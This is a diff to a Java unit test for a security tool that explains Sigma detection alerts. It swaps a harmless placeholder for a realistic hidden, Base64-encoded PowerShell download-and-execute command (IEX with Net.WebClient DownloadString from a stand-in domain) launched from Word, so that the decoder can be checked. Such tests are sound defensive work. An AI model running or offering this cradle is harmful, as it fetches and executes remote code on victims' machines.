@@ -12,8 +12,10 @@ import io.watchfloor.sigma.explain.Because;
 import io.watchfloor.sigma.language.Level;
 import io.watchfloor.sigma.language.RulePack;
 import io.watchfloor.sigma.loading.RuleLoader;
+import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
@@ -61,8 +63,10 @@ class ExplainerTest {
     @Test
     void whatMatchedIsToldInWordsWithTheEncodedCommandBesideIt() {
         AlertView alert = alert("PowerShell Started With An Encoded Command");
+        String command = "IEX (New-Object Net.WebClient).DownloadString('https://docs-corp.example/w02')";
+        String encoded = Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
         String raw = process(
-                "{1}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -enc SQBFAFgAIAAxAA==", "{0}", "C:\\WINWORD.EXE");
+                "{1}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -W Hidden -enc " + encoded, "{0}", "C:\\WINWORD.EXE");
 
         TelemetryView shown =
                 EXPLAINER.explain(alert, List.of(record(1, raw))).telemetry().getFirst();
@@ -70,8 +74,8 @@ class ExplainerTest {
         assertThat(shown.because()).extracting(BecauseView::says).anyMatch(says -> says.startsWith("CommandLine "));
         assertThat(shown.decoded()).hasSize(1).allSatisfy(decoded -> {
             assertThat(decoded.field()).isEqualTo("CommandLine");
-            assertThat(decoded.text()).isEqualTo("IEX 1");
-            assertThat(decoded.encoded()).isEqualTo("SQBFAFgAIAAxAA==");
+            assertThat(decoded.text()).isEqualTo(command);
+            assertThat(decoded.encoded()).isEqualTo(encoded);
         });
     }
 
